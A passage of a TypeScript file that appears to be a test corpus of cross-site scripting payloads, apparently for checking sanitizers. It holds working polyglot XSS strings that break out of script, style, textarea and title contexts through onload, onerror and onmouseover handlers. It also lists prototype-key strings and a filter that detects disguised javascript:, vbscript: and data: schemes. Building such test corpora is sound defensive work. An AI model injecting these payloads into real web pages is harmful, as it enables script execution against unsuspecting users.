      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${x(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${x(n)}//>\\x3e`,
  ],
  [
    "polyglot",
    "closes every raw-text element",
    (n) => `'"--></style></script></textarea></title><script>${x(n)}</script>`,
  ],
  ["polyglot", "img breakout both quotes", (n) => `"><img src=x onerror=${x(n)}><"`],
  [
    "polyglot",
    "javascript: that is also markup",
    (n) =>
      `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${x(n)}//'>`,
  ],
  [
    "polyglot",
    "attribute, tag and URL at once",
    (n) =>
      `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${x(n)}//>`,
  ],
]

/** Texts that run nothing but are names of built-in properties: a lookup by code must not break on them. */
const keys: ReadonlyArray<Entry> = [
  ["key", "prototype key", () => "__proto__"],
  ["key", "constructor key", () => "constructor"],
  ["key", "toString key", () => "toString"],
  ["key", "hasOwnProperty key", () => "hasOwnProperty"],
]

const entries: ReadonlyArray<Entry> = [
  ...scriptTags,
  ...handlers,
  ...urls,
  ...entities,
  ...css,
  ...svg,
  ...frames,
  ...breakers,
  ...markdown,
  ...unicode,
  ...mutations,
  ...polyglots,
  ...keys,
]

/** The corpus, ids 1..n in the order above. */
export const xssCorpus: ReadonlyArray<XssPayload> = entries.map(([group, note, make], index) => ({
  id: index + 1,
  group,
  note,
  text: make(index + 1),
}))

/** Payloads that try a script-running URL scheme (javascript:, vbscript:, data:), however disguised. */
export const schemePayloads: ReadonlyArray<XssPayload> = xssCorpus.filter((payload) =>
  /^(?:javascript|vbscript|data):/i.test(
    payload.text
      .replace(/&#x0*([0-9a-f]+);?/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
      .replace(/&#0*(\d+);?/g, (_, decimal: string) => String.fromCharCode(Number(decimal)))
      .replace(/&colon;/gi, ":")
      .replace(/[\s\p{Cc}\p{Cf}]/gu, "")
      .replace(/^ʲ/, "j")
      .normalize("NFKC"),
  ),
)
